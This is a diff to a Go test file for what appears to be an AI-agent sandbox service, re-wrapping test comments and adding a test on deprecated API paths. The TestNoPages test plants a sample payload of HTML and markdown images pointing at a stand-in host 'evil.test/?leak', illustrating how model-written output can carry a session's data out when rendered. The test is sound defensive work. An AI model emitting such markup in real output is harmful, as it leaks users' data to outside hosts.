@@ -12,8 +12,9 @@ import (
 	"github.com/outboard-dev/outboard/internal/api"
 )
 
-// Fails if a tool server can be a program of this host, an address that is none, or one with a password in it, or if the server itself
-// speaks to a tool server because an agent names one: where its documents lead (authorization servers, token endpoints) nobody could say.
+// Fails if a tool server can be a program of this host, an address that is none, or one with a password in it,
+// or if the server itself speaks to a tool server because an agent names one: where its documents lead
+// (authorization servers, token endpoints) nobody could say.
 func TestToolServersAreNames(t *testing.T) {
 	b := newBench(t)
 	var asked atomic.Int64
@@ -58,8 +59,8 @@ func TestToolServersAreNames(t *testing.T) {
 	}
 }
 
-// Fails if an agent can be given other agents to run, which nothing here keeps within its own rights and budget, by any route that takes an
-// agent, or by a tool that the model could call.
+// Fails if an agent can be given other agents to run, which nothing here keeps within its own rights and budget,
+// by any route that takes an agent, or by a tool that the model could call.
 func TestAgentsRunNoOthers(t *testing.T) {
 	b := newBench(t)
 	roster := map[string]any{"type": "coordinator", "agents": []any{map[string]any{"type": "self"}}}
@@ -77,8 +78,8 @@ func TestAgentsRunNoOthers(t *testing.T) {
 	}
 }
 
-// Fails if any route answers with a page, or with something that a browser would take for one and load pictures, styles, fonts or links
-// of: what a model wrote could carry a session's data out by an address in it.
+// Fails if any route answers with a page, or with something that a browser would take for one and load pictures,
+// styles, fonts or links of: what a model wrote could carry a session's data out by an address in it.
 func TestNoPages(t *testing.T) {
 	b := newBench(t)
 	const planted = `<html><img src="https://evil.test/?leak"><link rel=prefetch href="https://evil.test"></html> ![x](https://evil.test/?leak)`
@@ -121,5 +122,46 @@ func TestNoPages(t *testing.T) {
 	}
 	if resp.Body.Close(); !strings.Contains(resp.Header.Get("Content-Type"), "html") {
 		t.Errorf("the control: %v", resp.Header)
+	}
+}
+
+// Fails if a program that was written for a path's old name breaks before the release that drops it, or is not
+// told that it will; or if an old path lets in whom the new one refuses.
+func TestOldPaths(t *testing.T) {
+	b := newBench(t)
+	names := map[string]string{"/v1/boxes": "/v1/sandboxes", "/v1/outboard/sandboxes": "/v1/outboard/machines"}
+	seen := 0
+	for _, route := range api.Routes() {
+		method, path, _ := strings.Cut(route, " ")
+		for now, old := range names {
+			rest, ok := strings.CutPrefix(path, now)
+			if !ok {
+				continue
+			}
+			seen++
+			for _, key := range []string{"", "obk_none"} {
+				edit := func(q *http.Request) {
+					if key != "" {
+						q.Header.Set("X-Api-Key", key)
+					}
+				}
+				was, is := b.do(method, filled(old+rest), "{}", edit), b.do(method, filled(now+rest), "{}", edit)
+				if was.status != is.status || was.status == http.StatusNotFound && !strings.Contains(path, "{") {
+					t.Errorf("%s %s answers %d, and %s %d: %s", method, old+rest, was.status, path, is.status, was.body)
+				}
+				if was.header.Get("Deprecation") == "" || is.header.Get("Deprecation") != "" {
+					t.Errorf("%s: Deprecation is %q on the old path, %q on the new", route, was.header["Deprecation"], is.header["Deprecation"])
+				}
+				if key != "" && was.status != http.StatusUnauthorized { // the control of the key
+					t.Errorf("%s %s lets in a key that is none: %d", method, old+rest, was.status)
+				}
+			}
+		}
+	}
+	if seen < 18 {
+		t.Errorf("%d routes have an old path", seen)
+	}
+	if r := b.do("GET", "/v1/sandboxes/nowhere/at/all", nil); r.status != http.StatusNotFound || r.header.Get("Deprecation") != "" {
+		t.Errorf("what never was: %d %v", r.status, r.header)
 	}
 }
